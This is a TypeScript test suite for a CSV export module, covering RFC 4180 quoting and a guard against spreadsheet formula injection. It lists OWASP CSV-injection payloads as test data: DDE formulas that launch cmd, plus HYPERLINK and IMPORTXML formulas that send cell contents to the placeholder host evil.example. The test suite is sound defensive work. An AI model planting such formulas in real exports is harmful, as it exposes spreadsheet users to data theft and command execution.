import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardCell, toCsv, unguardCell, UTF8_BOM } from '../../../src/domain/register/csv.js';
import { parseCsv } from '../../support/csv.js';

const body = (csv: string) => {
  expect(csv.startsWith(UTF8_BOM)).toBe(true);
  return csv.slice(UTF8_BOM.length);
};

describe('RFC 4180 CSV', () => {
  it('quotes only fields with a comma, quote, CR or LF, doubles quotes, and ends every record in CRLF', () => {
    const csv = toCsv(['a', 'b,c'], [['plain', 'say "hi"'], ['line\nbreak', 'cr\rhere'], ['', 'Rådhuspladsen 😀']]);
    expect(body(csv)).toBe('a,"b,c"\r\nplain,"say ""hi"""\r\n"line\nbreak","cr\rhere"\r\n,Rådhuspladsen 😀\r\n');
  });

  it('guards cells a spreadsheet would run as a formula, reversibly', () => {
    expect(guardCell('=HYPERLINK("https://evil","x")')).toBe(`'=HYPERLINK("https://evil","x")`);
    for (const s of ['+1', '-2', '@SUM(A1)', '\tx', "'=x", "'plain", 'plain', '']) expect(unguardCell(guardCell(s))).toBe(s);
    expect(guardCell("'plain")).toBe("''plain");
    expect(guardCell('safe = fine')).toBe('safe = fine');
  });

  /** OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), and the same behind what spreadsheets skip. */
  const OWASP = [
    `=cmd|' /C calc'!A0`,
    `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")`,
    `+cmd|' /C calc'!A0`,
    `-2+3+cmd|' /C calc'!A0`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `=DDE("cmd";"/C calc";"!A0")A0`,
    `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
    `=1+1`,
  ];
  const BLANKS = [' ', '   ', '\u00a0', '\n', '\t', '\r', '\r\n', ' \t\u00a0\n', '\u2007', '\u3000', '\ufeff', '\u200b', '\u0000'];

  it.each(OWASP)('neutralises the OWASP payload %s, also behind spaces, NBSP, newlines, TAB and CR', (payload) => {
    for (const lead of ['', ...BLANKS]) {
      const cell = lead + payload;
      expect(guardCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
      expect(unguardCell(guardCell(cell))).toBe(cell);
    }
  });

  it('neutralises the full-width signs and the minus sign too', () => {
    for (const sign of ['\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212']) {
      expect(guardCell(`${sign}1+1`)).toBe(`'${sign}1+1`);
      expect(guardCell(` ${sign}SUM(A1)`)).toBe(`' ${sign}SUM(A1)`);
    }
  });

  it('leaves ordinary text alone, however it starts', () => {
    for (const s of ['Laptop lost', ' Laptop lost', '\u00a0Rådhuspladsen 1', '1+1=2', 'a=b', 'mail: a@b.dk', '(=)', '"=1"']) expect(guardCell(s)).toBe(s);
  });

  it('a guarded cell in the file is text to a spreadsheet: its first character is the apostrophe', () => {
    const csv = body(toCsv(['title'], [[' =1+1'], ['\n-2+3'], ['\u00a0@SUM(A1)']]));
    expect(parseCsv(csv).slice(1).map((r) => r[0]![0])).toEqual(["'", "'", "'"]);
  });

  it('any table survives writing and parsing', () => {
    const cell = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom('"', ',', '\r\n', '\n', '\r', '=1+1', "'", '""'));
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }).chain((w) => fc.tuple(fc.array(cell, { minLength: w, maxLength: w }), fc.array(fc.array(cell, { minLength: w, maxLength: w }), { maxLength: 6 }))), ([header, rows]) => {
        const parsed = parseCsv(body(toCsv(header, rows))).map((r) => r.map(unguardCell));
        expect(parsed).toEqual([header, ...rows]);
      }),
      { numRuns: 300 },
    );
  });

  it('refuses a row with the wrong number of fields', () => {
    expect(() => toCsv(['a', 'b'], [['only one']])).toThrow(/1 fields, the header 2/);
  });
});
